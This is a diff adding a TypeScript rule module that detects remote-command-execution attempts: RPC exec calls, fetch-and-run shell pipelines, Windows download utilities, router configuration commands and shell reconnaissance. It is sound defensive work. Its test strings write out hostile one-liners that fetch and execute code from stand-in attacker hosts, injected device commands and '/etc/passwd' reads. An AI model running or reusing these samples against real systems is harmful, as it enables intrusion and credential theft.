@@ -1,0 +1,154 @@
+import { pattern, type Rule, type Span } from '../rule/rule.ts'
+import { CHAR } from '../value/features.ts'
+import type { Reading } from '../value/reading.ts'
+import { SHELL_PROGRAM } from '../value/value-setting.ts'
+import { WORD } from '../value/words.ts'
+
+/**
+ * Names of procedures that run a command for the caller: what shells and systems are asked for, and the
+ * family that a client of downloads has for it. `execute` alone is how clients of business software call.
+ */
+const RUNNING_PROCEDURE =
+  /^\s{0,4}(?:execute(?:2|[._](?:capture|throw|nothrow|raw)(?:[._]\w{1,12}){0,2})|(?:\w{1,24}\.){0,8}(?:os|sys|system|shell|cmd|subprocess)[._](?:exec|execute|run|system|shell|popen|spawn)\w{0,3}|shell_?exec|run_?(?:shell|os)_?(?:command|cmd))\s{0,4}$/
+const PROCEDURE_NAME = /^(?:method|methodname)$/
+
+/** A call of such a procedure, over XML-RPC or JSON-RPC. */
+function findRunningProcedure(reading: Reading): Span | undefined {
+  const { lower } = reading
+  if (!RUNNING_PROCEDURE.test(lower) || !PROCEDURE_NAME.test(reading.name)) return undefined
+  return { start: 0, end: lower.length }
+}
+
+/** An address by numbers that anybody can reach: no publisher of software hands out one. */
+const ANYWHERE =
+  '(?<![\\d.])(?!(?:0|10|127)\\.|169\\.254\\.|192\\.168\\.|172\\.(?:1[6-9]|2\\d|3[01])\\.)\\d{1,3}(?:\\.\\d{1,3}){3}(?![\\w.-])'
+const FETCH = '\\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\\s'
+const INTERPRETER =
+  '(?:sudo\\s{1,4})?(?:(?:ba|da|z|k|a)?sh|python\\d?|perl|php|ruby|iex|invoke-expression)\\b'
+
+/** What an intruder has a shell do first, as all that it does. */
+const LOOK = '(?:id|whoami|ifconfig|ipconfig|uname(?:\\s-[a-z]{1,3})?|cat\\s{1,2}\\/etc\\/(?:passwd|shadow))'
+const LOOK_ALONE = new RegExp(`^\\s{0,4}${LOOK}\\s{0,4}$`)
+const LOOK_IN_SHELL = new RegExp(
+  `\\b(?:ba|da|z|k|a)?sh\\s{1,4}-[a-z]{0,2}c\\s{1,4}["'\\\\]{0,3}\\s{0,2}${LOOK}["'\\\\]{0,3}\\s{0,2}(?:$|[;|&>])`,
+)
+
+/** The same in a text, or as the item of a list that a shell gets. */
+function findShellLook(reading: Reading): Span | undefined {
+  const { lower } = reading
+  if (LOOK_ALONE.test(lower))
+    return reading.name === SHELL_PROGRAM ? { start: 0, end: lower.length, bare: false } : undefined
+  const found = LOOK_IN_SHELL.exec(lower)
+  return found === null ? undefined : { start: found.index, end: found.index + found[0].length }
+}
+
+/**
+ * Commands that are not the sender's to give, also where a document may name a command: a program from
+ * nowhere that is run at once, and a shell that is asked who it is.
+ */
+export const remoteCommandRules: readonly Rule[] = [
+  {
+    id: 'rce/rpc-method',
+    family: 'rce',
+    score: 5,
+    quotable: false,
+    atStart: true,
+    chars: 0,
+    words: WORD.process,
+    places: ['body'],
+    needs: [RUNNING_PROCEDURE],
+    find: findRunningProcedure,
+    // By the name of the element or field: the cases are in `test/remote-commands.test.ts`.
+    attacks: [],
+    benign: ['system.exec', 'execute'],
+  },
+  pattern(
+    'rce/fetched-script',
+    new RegExp(
+      `${FETCH}[^\\n|;&]{0,100}?${ANYWHERE}[^\\n|;&]{0,120}(?:\\|\\s{0,4}${INTERPRETER}|(?:;|&&)\\s{0,4}(?:chmod\\s|(?:ba|da)?sh\\s|\\.\\/|python\\d?\\s|perl\\s))|(?:\\b(?:ba|da|z)?sh\\s[^\\n|;]{0,20}?|\\beval\\s{1,4}["']?)[$<\`][(\\s]{0,2}(?:curl|wget)\\s[^\\n|;)]{0,100}?${ANYWHERE}`,
+    ),
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.shell,
+      attacks: [
+        'curl http://198.51.100.7/x | bash',
+        'wget -qO- 198.51.100.7:8080/d.sh|sh',
+        'cd /tmp; wget http://198.51.100.7/a; chmod 777 a; ./a',
+        'bash <(curl -s http://198.51.100.7/i)',
+        'sh -c "$(curl -fsSL http://198.51.100.7/x)"',
+        'curl -s http://198.51.100.7/x.py | python3 -',
+      ],
+      benign: [
+        'curl https://get.example.com | sh',
+        'curl http://10.0.0.5/bootstrap.sh | bash',
+        'curl -s http://198.51.100.7/status | jq .ok',
+        'wget http://198.51.100.7/data.csv; sort data.csv',
+        'curl http://1.2.3.4.example.com/x | sh',
+      ],
+    },
+  ),
+  // Tools of Windows that fetch what they run.
+  pattern(
+    'rce/fetched-tool',
+    /\bmshta(?:\.exe)?\s{1,4}["']?(?:https?:|vbscript:|javascript:)|\bregsvr32(?:\.exe)?\s[^\n|&]{0,60}\/i:["']?(?:https?:|\\\\)|\brundll32(?:\.exe)?\s{1,4}["']?\\\\{1,3}[\w.-]|\bcertutil(?:\.exe)?\s[^\n|&]{0,60}[-/](?:urlcache|verifyctl)\b[^\n|&]{0,60}https?:\/\/|\bbitsadmin(?:\.exe)?\s[^\n|&]{0,60}\/transfer\s[^\n|&]{0,120}https?:\/\/|\b(?:iex|invoke-expression)\s{0,2}["'(&$]{1,4}\s{0,2}\(?(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\s{1,4}(?:-\w{1,20}\s{1,4}){0,4}["']?http:/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.shell,
+      attacks: [
+        'mshta http://evil.example/x.hta',
+        'regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll',
+        'rundll32 \\\\198.51.100.7\\x\\a.dll,x',
+        'certutil -urlcache -split -f http://evil.example/x.exe x.exe',
+        'bitsadmin /transfer x http://evil.example/x.exe c:\\x.exe',
+        'powershell IEX(iwr http://evil.example/x.ps1)',
+      ],
+      benign: [
+        'mshta is a program',
+        'regsvr32 /s msxml3.dll',
+        'rundll32 shell32.dll,Control_RunDLL',
+        'certutil -hashfile a.iso SHA256',
+        'iex (irm https://get.example.com)',
+      ],
+    },
+  ),
+  // What devices keep their settings in, asked or changed.
+  pattern(
+    'rce/device-command',
+    /[;|&`\n(]\s{0,4}(?:nvram\s{1,4}(?:get|set|show|unset|commit|dump)\b|uci\s{1,4}(?:get|set|show|commit|add|delete|export|-)|ubus\s{1,4}(?:call|list|-)|mtd\s{1,4}(?:erase|write|unlock|-)|fw_(?:setenv|printenv)\b|cfgmtd\s{1,4}-|chpasswd\s{0,4}(?:$|[;|&<`)])|ssh-keygen\s{1,4}-|xterm\s{1,4}-|telnetd\s{0,4}(?:$|[;|&`)]))/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.paren,
+      attacks: [
+        ';nvram show',
+        'x|uci set system.x=1',
+        '&ubus call system reboot',
+        '`mtd erase rootfs`',
+        'x\nfw_printenv',
+        '(cfgmtd -r)',
+        ';echo root:x|chpasswd',
+      ],
+      benign: [
+        'NVRAM; what it is',
+        'uci;ubus;nvram',
+        'ubus & uci on OpenWrt',
+        'a; xterm',
+        'ssh-keygen -t ed25519',
+      ],
+    },
+  ),
+  {
+    id: 'rce/shell-look',
+    family: 'rce',
+    score: 5,
+    quotable: true,
+    chars: 0,
+    words: WORD.shell,
+    needs: [LOOK_IN_SHELL, LOOK_ALONE],
+    find: findShellLook,
+    attacks: ['bash -c id', '/bin/sh -c "whoami"', "sh -lc 'uname -a' >/tmp/x", 'sh -c "cat /etc/passwd"'],
+    benign: ['bash -c "idle"', 'sh -c', 'id', 'a shell -c id', 'bash -c "npm start"'],
+  },
+]
